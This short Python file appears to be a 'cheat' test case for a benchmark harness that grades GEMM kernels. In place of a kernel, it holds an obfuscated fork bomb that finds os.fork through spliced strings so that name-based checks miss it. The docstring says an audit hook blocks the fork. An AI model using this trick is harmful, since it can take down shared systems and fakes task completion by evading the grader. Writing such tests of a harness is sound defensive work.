"""Cheat (8p_gemm): a fork bomb through os.fork reached with computed names
(operator.attrgetter on typing's sys.modules). The audit hook refuses the first fork, so no
process is ever created; the pool would kill the whole process group anyway."""
import operator
import typing

TARGET = "tpu"


def kernel(a, b):
    get = operator.attrgetter
    the_os = get("mod" + "ules")(get("sy" + "s")(typing))["o" + "s"]
    fork = get("fo" + "rk")(the_os)
    while True:
        fork()
